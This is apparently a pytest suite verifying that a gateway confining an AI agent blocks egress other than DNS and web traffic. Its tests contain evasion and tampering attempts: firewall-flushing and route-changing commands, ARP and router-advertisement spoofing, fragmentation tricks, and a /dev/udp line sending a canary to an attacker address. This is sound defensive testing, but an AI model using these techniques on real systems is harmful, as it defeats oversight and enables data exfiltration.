"""What is neither DNS nor TCP 80 and 443 goes nowhere, whatever the agent is allowed to send."""
# SPDX-License-Identifier: GPL-3.0-or-later

import socket
import struct
import subprocess

import pytest

from lab import addresses as at
from lab import packets, tls_wire, web
from lab.case import Live

threat = pytest.mark.threat

REFUSED_AT_ONCE = 1.0  # seconds; a refusal is a packet, not a time-out


def canary_datagram(case, size=200):
    return b"\xc0\x00\x00\x00\x01\x08" + case.canary.encode() * (size // 16)


@threat("T001")
@pytest.mark.parametrize("port", [443, 80])
@pytest.mark.parametrize("target", [at.EV, at.AL, at.EV6], ids=["attacker", "allowed", "attacker6"])
def test_quic_is_refused_at_once_even_to_an_allowed_host(case, agent, target, port):
    how, answer = agent.call("udp", target, port, canary_datagram(case, 1200), wait=2.0)
    assert (how, answer) == ("prohibited", b""), "an ICMP refusal, so that clients fall back to TCP"
    case.control("https")


@threat("T001")
def test_a_refused_quic_client_is_named_with_the_host_it_looked_up(case, user_agent, lab):
    name = f"q-{case.canary}.wild.test"
    case.canary_may_leave = True
    assert web.resolve(lab.agent, name).addresses() == [at.WILD]
    user_agent.call("udp", at.WILD, 443, canary_datagram(case, 1200))
    record = case.record(phase="packet", action="blocked", port=443, host=name)
    assert record["client"] == at.AG
    assert record["reason"] == "quic_refused"
    case.no_packet()


TCP_PORTS = [21, 22, 25, 110, 123, 143, 179, 389, 465, 587, 853, 993, 1080, 1194, 3128, 3306, 5432, 6379, 8000, 8080,
             8443, 9050, 51820, 65535]  # fmt: skip


@threat("T002")
@pytest.mark.parametrize("target", [at.EV, at.AL], ids=["attacker", "allowed"])
def test_every_other_tcp_port_is_reset_at_once(case, agent, target):
    for port in TCP_PORTS:
        how, answer, seconds = agent.call("tcp", target, port, case.canary.encode())
        assert (how, answer) == ("refused", b""), (port, how)
        assert seconds < REFUSED_AT_ONCE, (port, seconds)
    case.no_packet()
    case.no_syn()


@threat("T002")
def test_a_refused_connection_is_logged_with_its_port(case, user_agent):
    port = 20000 + int(case.canary, 16) % 20000  # one that no other case used: repeats are counted, not written
    user_agent.call("tcp", at.EV, port, case.canary.encode())
    record = case.one_record(phase="packet", action="blocked", port=port)
    assert record["client"] == at.AG
    assert record["destination"] == f"{at.EV}:{port}"


@threat("T002")
@pytest.mark.parametrize("target", [at.EV, at.AL], ids=["attacker", "allowed"])
def test_every_other_udp_port_is_refused(case, agent, target):
    for port in [*TCP_PORTS, 67, 68, 500, 5353]:
        agent.call("udp", target, port, case.canary.encode(), wait=0.02)
    case.no_packet()


@threat("T002")
@pytest.mark.parametrize("source_port", [53, 67, 68, 123, 443, 500])
def test_no_source_port_is_friendly(case, lab, raw_agent, source_port):
    """Ports below 1024 need a capability that Docker's default set has."""
    how, _ = raw_agent.call("udp", at.EV, 9999, case.canary.encode(), wait=0.3, source_port=source_port)
    assert how in ("prohibited", "timeout")
    segment = packets.tcp(at.AG, at.EV, source_port, 9999)
    raw_agent.call("raw_ip", packets.ipv4(at.AG, at.EV, packets.TCP, segment), at.EV)
    segment = packets.tcp(at.AG, at.EV, source_port, 9999, flags=packets.SYN | packets.ACK)
    raw_agent.call("raw_ip", packets.ipv4(at.AG, at.EV, packets.TCP, segment), at.EV)
    case.no_packet()
    del lab


@threat("T003")
@pytest.mark.parametrize("target", [at.EV, at.AL, at.EV6], ids=["attacker", "allowed", "attacker6"])
def test_echo_requests_are_no_tunnel(case, agent, target):
    how, answers = agent.call("ping", target, case.canary.encode() * 80, count=20)
    assert answers == 0, how


@threat("T003")
def test_a_thousand_echo_requests_leave_nothing_and_disturb_nobody(case, lab, user_agent):
    with Live(lab, lab.neighbour):
        user_agent.call("ping", at.EV, case.canary.encode() * 80, count=1000)


@threat("T003")
def test_the_gateway_itself_answers_echo(case, user_agent):
    assert user_agent.call("ping", at.GW, b"are you there")[1] == 1
    del case


@threat("T003")
@pytest.mark.parametrize("kind", [0, 13, 17, 3, 5])
def test_other_icmp_types_go_nowhere(case, raw_agent, kind):
    body = packets.icmp(kind, 0, struct.pack("!HH", 1, 1) + case.canary.encode() * 20)
    for target in (at.EV, at.AL):
        assert raw_agent.call("raw_ip", packets.ipv4(at.AG, target, packets.ICMP, body), target) == "sent"


@threat("T004")
@pytest.mark.parametrize("outer", [at.AL, at.EV])
def test_icmp_errors_do_not_ride_on_an_open_connection(case, lab, raw_agent, outer):
    with web.connected(lab.agent, at.AL, 443) as link:
        link.sendall(tls_wire.client_hello("allowed.test"))
        assert link.recv(1) == b"\x16", "the flow is open"
        port = link.getsockname()[1]
        inner = packets.ipv4(at.AL, at.AG, packets.TCP, struct.pack("!HHI", 443, port, 1)) + case.canary.encode() * 20
        error = packets.icmp(3, 4, struct.pack("!HH", 0, 576) + inner)
        assert raw_agent.call("raw_ip", packets.ipv4(at.AG, outer, packets.ICMP, error), outer) == "sent"
        case.no_packet()


@threat("T005")
@pytest.mark.parametrize("protocol", [2, 4, 41, 47, 50, 51, 89, 103, 132, 136, 253])
def test_other_protocols_go_nowhere(case, raw_agent, protocol):
    body = case.canary.encode() * 8
    for target in (at.EV, at.AL):
        assert raw_agent.call("raw_ip", packets.ipv4(at.AG, target, protocol, body), target) == "sent"


@threat("T005")
@pytest.mark.parametrize("protocol", [132, 33, 136], ids=["sctp", "dccp", "udplite"])
def test_other_socket_types_go_nowhere(case, agent, protocol):
    kind = {132: socket.SOCK_STREAM, 33: 6, 136: socket.SOCK_DGRAM}[protocol]
    assert agent.call("socket_of", socket.AF_INET, kind, protocol, at.EV, 9999) != "connected" or protocol == 136


def _fragments(source, target, segment, cut, ident, second=None):
    """Two fragments; `second`: (offset in bytes, data) instead of the rest."""
    offset, rest = second or (cut, segment[cut:])
    first = packets.ipv4(source, target, packets.TCP, segment[:cut], fragment=0x2000, ident=ident)
    return [first, packets.ipv4(source, target, packets.TCP, rest, fragment=offset // 8, ident=ident)]


@threat("T006")
def test_fragments_hide_no_port(case, raw_agent, lab):
    """Ports in the second fragment, overlapping fragments that disagree about the port, and fragmented QUIC."""
    syn = packets.tcp(at.AG, at.EV, 4000, 9999)
    sets = [_fragments(at.AG, at.EV, syn, 8, 1)]
    https = packets.tcp(at.AG, at.EV, 4001, 443)
    overwritten = packets.tcp(at.AG, at.EV, 4001, 22)
    sets.append(_fragments(at.AG, at.EV, https, 16, 2, second=(0, overwritten)))
    sets.append(_fragments(at.AG, at.EV, https, 16, 3, second=(8, overwritten[8:])))
    quic = packets.udp(at.AG, at.EV, 4002, 443, case.canary.encode() * 90)
    first = packets.ipv4(at.AG, at.EV, packets.UDP, quic[:1000], fragment=0x2000, ident=4)
    sets.append([first, packets.ipv4(at.AG, at.EV, packets.UDP, quic[1000:], fragment=1000 // 8, ident=4)])
    mac = raw_agent.call("neighbour_mac", at.GW)
    for fragments in sets:
        assert raw_agent.call("frame", mac, packets.ETH_IPV4, fragments) == "sent"
        raw_agent.call("frame", mac, packets.ETH_IPV4, list(reversed(fragments)))
    case.no_packet()
    case.no_syn()
    del lab


@threat("T006")
def test_unfinished_fragments_do_not_wear_the_gateway_out(case, lab, raw_agent):
    segment = packets.udp(at.AG, at.EV, 4003, 443, case.canary.encode() * 60)
    firsts = [
        packets.ipv4(at.AG, at.EV, packets.UDP, segment[:800], fragment=0x2000, ident=number) for number in range(10000)
    ]
    mac = raw_agent.call("neighbour_mac", at.GW)
    with Live(lab, lab.neighbour):
        assert raw_agent.call("frame", mac, packets.ETH_IPV4, firsts) == "sent"


LSRR, SSRR, RECORD_ROUTE, TIMESTAMP = 0x83, 0x89, 0x07, 0x44


@threat("T007")
@pytest.mark.parametrize("option", [LSRR, SSRR, RECORD_ROUTE, TIMESTAMP])
def test_ip_options_are_dropped(case, raw_agent, option):
    options = bytes([option, 7, 4]) + socket.inet_aton(at.EV) + b"\0"
    for target in (at.GW, at.EV):
        syn = packets.tcp(at.AG, target, 4100, 443)
        raw_agent.call("raw_ip", packets.ipv4(at.AG, target, packets.TCP, syn, options=options), target)
        query = packets.udp(at.AG, target, 4101, 53, case.canary.encode())
        raw_agent.call("raw_ip", packets.ipv4(at.AG, target, packets.UDP, query, options=options), target)
    case.no_packet()
    case.no_query()


@threat("T007")
def test_an_unprivileged_record_route_does_not_even_reach_an_allowed_host(case, user_agent):
    option = (socket.IPPROTO_IP, socket.IP_OPTIONS, bytes([RECORD_ROUTE, 7, 4, 0, 0, 0, 0, 0]))
    hello = tls_wire.client_hello("allowed.test")
    how, answer, _ = user_agent.call("tcp", at.AL, 443, hello, wait=1.0, options=[option])
    assert answer == b"", how


@threat("T007", "T019")
@pytest.mark.parametrize("key", ["accept_source_route", "route_localnet", "accept_redirects"])
@pytest.mark.parametrize("interface", ["all", "default", "ag0"])
def test_the_gateway_turned_dangerous_sysctls_off(case, lab, key, interface):
    assert lab.gw.sysctl(f"net.ipv4.conf.{interface}.{key}") == "0"
    del case


@threat("T008")
@pytest.mark.parametrize("port", [9999, 22, 8443])
def test_ipv6_is_refused_like_ipv4(case, agent, port):
    how, _, seconds = agent.call("tcp", at.EV6, port, case.canary.encode())
    assert how == "refused"
    assert seconds < REFUSED_AT_ONCE
    assert agent.call("udp", at.EV6, port, case.canary.encode(), wait=2.0)[0] == "prohibited"


@threat("T008")
@pytest.mark.parametrize("port", [443, 80])
def test_ipv6_web_ports_are_inspected_like_ipv4(case, lab, port):
    request = web.request_bytes("denied.test", f"/{case.canary}")
    data = tls_wire.client_hello("denied.test") if port == 443 else request
    answer, how = web.talk(lab.agent, at.EV6, port, data)
    assert answer[:1] in ((b"\x15", b"\x16") if port == 443 else (b"H",)), (how, answer[:40])
    case.no_syn()
    case.record(action="blocked", host="denied.test", reason="host_not_allowed", port=port)


@threat("T008", "C12")
def test_an_allowed_name_with_only_ipv6_works_over_ipv6(case, lab):
    assert web.http(lab.agent, "six.wild.test", address=at.WILD6).body == b"WILD\n"
    assert web.https(lab.agent, "six.wild.test", lab.ca.certificate, address=at.WILD6).body == b"WILD\n"
    del case


@threat("T009")
def test_link_local_addresses_of_the_gateway_answer_only_what_ipv4_would(case, lab, agent):
    link = lab.gw.ip("-6", "-o", "address", "show", "dev", "ag0", "scope", "link")
    address = link.split("inet6 ")[1].split("/")[0]
    ports = [22, 53, 80, 443, 2375, 8000, 9090, *_listening_ports(lab)]
    found = agent.call("tcp_scan", f"{address}%eth0", ports)
    assert set(found) <= {53, 80, 443, 8080}, found
    case.no_packet()


def _listening_ports(lab):
    with lab.gw.entered():
        out = subprocess.run(["ss", "-Htln"], capture_output=True, text=True, check=True).stdout
    return sorted({int(line.split()[3].rsplit(":", 1)[1]) for line in out.splitlines()})


@threat("T010")
def test_arp_and_router_advertisements_do_not_move_the_neighbour(case, lab, raw_agent):
    own = raw_agent.call("run", ["cat", "/sys/class/net/eth0/address"])[1].decode().strip()
    mac = bytes.fromhex(own.replace(":", ""))

    def claim(address):  # a gratuitous ARP reply
        who = socket.inet_aton(address)
        return struct.pack("!HHBBH", 1, packets.ETH_IPV4, 6, 4, 2) + mac + who + b"\xff" * 6 + who

    for address in (at.NS, at.AL, at.GWUP):
        raw_agent.call("frame", "ff:ff:ff:ff:ff:ff", packets.ETH_ARP, [claim(address)] * 5)
    assert (at.NS in lab.gw.ip("neigh", "show", "dev", "ag0")) is False, "learnt an outside address inside"
    advert = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
    fe80 = socket.inet_pton(socket.AF_INET6, "fe80::bad")
    everyone = socket.inet_pton(socket.AF_INET6, "ff02::1")
    pseudo = fe80 + everyone + struct.pack("!IHBB", len(advert), 0, 0, 58)
    check = packets.checksum(pseudo + advert)
    advert = advert[:2] + struct.pack("!H", check) + advert[4:]
    packet = struct.pack("!IHBB", 6 << 28, len(advert), 58, 255) + fe80 + everyone + advert
    assert raw_agent.call("frame", "33:33:00:00:00:01", packets.ETH_IPV6, [packet] * 5) == "sent"
    assert "fe80::bad" not in lab.gw.ip("-6", "route", "show"), "the gateway took a default route from an agent"
    case.control()


@threat("T011")
def test_a_mapped_address_is_refused_like_the_address_it_holds(case, agent):
    how, answer, _ = agent.call("tcp", f"::ffff:{at.EV}", 9999, case.canary.encode())
    assert (how, answer) == ("refused", b"")


@threat("T011")
@pytest.mark.parametrize("literal", ["[::ffff:169.254.169.254]", "[::ffff:45.33.32.66]", "[64:ff9b::a9fe:a9fe]", "[::1]"])
def test_embedded_addresses_are_refused_as_host(case, lab, literal):
    response = web.http(lab.agent, literal, f"/{case.canary}", address=at.AL)
    assert response.status in (400, 403)
    case.no_syn()


TAMPERING = [
    ["ip", "route", "replace", "default", "via", at.BR],
    ["ip", "route", "add", at.EV, "via", at.BR],
    ["ip", "address", "add", "10.77.0.66/24", "dev", "eth0"],
    ["ip", "link", "set", "eth0", "down"],
    ["nft", "flush", "ruleset"],
    ["sysctl", "-qw", "net.ipv4.ip_forward=1"],
    ["conntrack", "-F"],
    ["mount", "--bind", "/dev/null", "/etc/resolv.conf"],
]


@threat("T012")
@pytest.mark.parametrize("command", TAMPERING, ids=lambda c: " ".join(c[:3]))
def test_tampering_inside_the_agent_has_no_effect(case, lab, agent, command):
    status, output = agent.call("run", command)
    assert status not in (126, 127), f"{command[0]} is missing: nothing was tried"
    read_only = command[0] == "conntrack" and status == 0  # an empty table may be "flushed" without a right to
    assert status != 0 or read_only, output
    assert agent.call("tcp", at.EV, 9999, case.canary.encode())[0] == "refused"
    assert at.GW in lab.agent.ip("route", "show", "default")


@threat("T012")
def test_a_namespace_of_the_agents_own_leads_nowhere(case, agent):
    script = f"ip link set lo up; ip link add v0 type veth peer name v1; nft flush ruleset; " \
             f"echo {case.canary} > /dev/udp/{at.EV}/9999"  # fmt: skip
    agent.call("run", ["unshare", "-Urn", "bash", "-c", script])
    case.no_packet()


@threat("T013", "T017", "T127")
@pytest.mark.parametrize("target", [at.GW, at.GW_OWN], ids=["claimed", "own"])
def test_only_dns_web_and_the_proxy_answer_on_the_gateway(case, lab, user_agent, target):
    with lab.gw.entered(), socket.socket() as bystander:  # a service beside the gateway, as on a host
        bystander.bind(("0.0.0.0", 0))
        bystander.listen()
        found = user_agent.call("tcp_scan", target, range(1, 65536))
        assert bystander.getsockname()[1] not in found
    # Where the source port was that of a connection redirected to the same listener a minute ago, the kernel's connection
    # tracking drops the packet before it is refused: silent, and no way in.
    silent = {port for port, how in found.items() if how == "silent"}
    assert silent <= set(_listening_ports(lab)), found
    assert set(found) - silent <= {53, 80, 443, 8080}, found
    assert 53 in found, "the scan finds what does answer"


@threat("T017", "T127")
@pytest.mark.parametrize("target", [at.GWUP, at.GWUP6], ids=["v4", "v6"])
def test_the_gateways_outside_address_is_no_way_in(case, lab, user_agent, target):
    ports = [22, 111, 2375, 5353, 8000, 8443, 9090, *(p for p in _listening_ports(lab) if p not in (53, 80, 443, 8080))]
    assert user_agent.call("tcp_scan", target, ports) == {}
    for port in (80, 443):
        answer = web.talk(lab.agent, target, port, web.request_bytes(target if ":" not in target else f"[{target}]"))
        assert b" 200 " not in answer[0][:20], answer
    case.no_packet()


@threat("T013", "T127")
def test_udp_services_of_the_gateways_addresses_do_not_answer(case, user_agent):
    for target in (at.GW, at.GW_OWN, at.GWUP):
        for port in (111, 137, 1900, 5353, 161, 8125):
            how, answer = user_agent.call("udp", target, port, case.canary.encode(), wait=0.1)
            assert how != "answered", (target, port, answer)


@threat("T019")
@pytest.mark.parametrize("target", ["127.0.0.1", "127.0.0.11", "0.0.0.0"])
def test_loopback_addresses_do_not_work_through_the_gateway(case, lab, raw_agent, target):
    with lab.gw.entered():
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    with udp, tcp:
        udp.bind(("127.0.0.1", 0))
        tcp.bind(("127.0.0.1", 0))
        tcp.listen()
        tcp.setblocking(False)
        udp.setblocking(False)
        mac = raw_agent.call("neighbour_mac", at.GW)
        datagram = packets.udp(at.AG, target, 4200, udp.getsockname()[1], case.canary.encode())
        syn = packets.tcp(at.AG, target, 4201, tcp.getsockname()[1])
        frames = [packets.ipv4(at.AG, target, packets.UDP, datagram), packets.ipv4(at.AG, target, packets.TCP, syn)]
        assert raw_agent.call("frame", mac, packets.ETH_IPV4, frames) == "sent"
        case.control()
        with pytest.raises(BlockingIOError):
            udp.recv(100)
        with pytest.raises(BlockingIOError):
            tcp.accept()


@threat("T020")
@pytest.mark.parametrize("mark", [1, 2, 0x2000, 0x1337, 0x534F4C45])
def test_a_packet_mark_buys_nothing(case, raw_agent, mark):
    option = (socket.SOL_SOCKET, 36, mark)  # SO_MARK
    how, answer, _ = raw_agent.call("tcp", at.EV, 9999, case.canary.encode(), options=[option], wait=1.0)
    assert how in ("refused", "not permitted")
    hello = tls_wire.client_hello("denied.test")
    how, answer, _ = raw_agent.call("tcp", at.EV, 443, hello, options=[option], wait=2.0)
    assert answer[:1] in (b"", b"\x15", b"\x16"), "of the gateway, if of anybody: nobody is dialled"
    case.no_syn()


@threat("T021")
def test_data_in_the_syn_is_inspected_like_any_other(case, user_agent):
    request = web.request_bytes("denied.test", f"/{case.canary}")
    for _ in range(2):  # the second try has a cookie, if the gateway hands any out
        how, answer = user_agent.call("fast_open", at.EV, 80, request)
        assert answer.startswith(b"HTTP/1.1 403") or how in ("reset", "refused"), (how, answer[:60])
    case.no_syn()


@threat("T021")
def test_an_urgent_byte_does_not_make_two_readings_of_one_name(case, lab, user_agent):
    """Inspected and forwarded are the same stream: either the byte is in both, or in neither."""
    case.canary_may_leave = True
    mark = lab.al.mark()
    pieces = [f"GET /{case.canary} HTTP/1.1\r\nHost: allowed.te".encode(), ("oob", b"X"), b"st\r\n\r\n"]
    how, answer = user_agent.call("tcp_pieces", at.AL, 80, pieces, wait=1.0)
    arrived = lab.al.since(mark, case.canary)
    if arrived:
        assert arrived[0].headers["host"] == "allowed.test"
    else:
        assert answer[:12] in (b"HTTP/1.1 403", b"HTTP/1.1 400", b""), (how, answer)
    hello = tls_wire.client_hello("allowed.test")
    cut = hello.index(b"allowed.test") + 10
    how, answer = user_agent.call("tcp_pieces", at.AL, 443, [hello[:cut], ("oob", b"X"), hello[cut:]], wait=1.0)
    assert answer[:1] in (b"", b"\x15", b"\x16"), (how, answer[:20])


@threat("T021")
def test_simultaneous_open_and_strange_flags_open_nothing(case, raw_agent):
    for flags in (0x00, 0x01, 0x03, 0x06, 0x12, 0x29, 0x3F):
        for target, port in ((at.EV, 443), (at.AL, 443), (at.EV, 9999)):
            segment = packets.tcp(at.AG, target, 4300 + flags, port, flags=flags, payload=case.canary.encode())
            raw_agent.call("raw_ip", packets.ipv4(at.AG, target, packets.TCP, segment), target)
    case.no_packet()
    case.no_syn()


@threat("T022")
def test_no_connection_helper_opens_a_pinhole(case, lab, user_agent):
    assert "helper" not in lab.gw.run("nft", "list", "ruleset").stdout
    case.canary_may_leave = True
    lines = ["PORT 45,33,32,66,39,15", "REGISTER sip:x SIP/2.0", "DCC SEND x 757145666 9999"]
    for line in lines:
        body = f"{line}\r\n{case.canary}".encode()
        web.http(lab.agent, "allowed.test", "/echo", method="POST", body=body)
        assert user_agent.call("tcp", at.EV, 9999, b"x")[0] == "refused"
        assert user_agent.call("udp", at.EV, 9999, b"x")[0] != "answered"


@threat("T023")
@pytest.mark.parametrize("target", [
    ("224.0.0.251", 5353), ("224.0.0.252", 5355), ("239.255.255.250", 1900), ("10.77.0.255", 137),
    ("255.255.255.255", 67), ("255.255.255.255", 9999), ("45.33.32.255", 9999), ("ff02::fb", 5353), ("ff05::1:3", 547),
], ids=lambda t: f"{t[0]}-{t[1]}")  # fmt: skip
def test_multicast_and_broadcast_stay_inside(case, lab, agent, target):
    with Live(lab, lab.neighbour):
        agent.call("multicast", *target, case.canary.encode())
        case.no_packet()


@threat("T015")
def test_a_foreign_source_address_is_dropped(case, raw_agent, lab):
    """Packets that claim to come from outside, from the gateway, or from nowhere on this link."""
    mac = raw_agent.call("neighbour_mac", at.GW)
    frames = []
    for source in (at.NS, at.AL, at.GWUP, at.GW, "127.0.0.1", "192.168.7.7", "0.0.0.0"):
        query = packets.udp(source, at.GW, 4400, 53, b"\0" * 12 + case.canary.encode())
        frames.append(packets.ipv4(source, at.GW, packets.UDP, query))
        frames.append(packets.ipv4(source, at.EV, packets.TCP, packets.tcp(source, at.EV, 4401, 443)))
    assert raw_agent.call("frame", mac, packets.ETH_IPV4, frames) == "sent"
    case.no_packet()
    case.no_query()
    del lab


@threat("T136")
def test_denied_datagrams_leave_no_connection_entries(case, lab, user_agent):
    """What is refused is not tracked, so that it cannot fill the table of everybody else."""
    before = int(lab.gw.sysctl("net.netfilter.nf_conntrack_count"))
    sent = user_agent.call("udp_spray", [(at.EV, port) for port in range(10000, 14000)], case.canary.encode())
    assert sent > 0
    after = int(lab.gw.sysctl("net.netfilter.nf_conntrack_count"))
    assert after - before < 100, (before, after)
    case.no_packet()
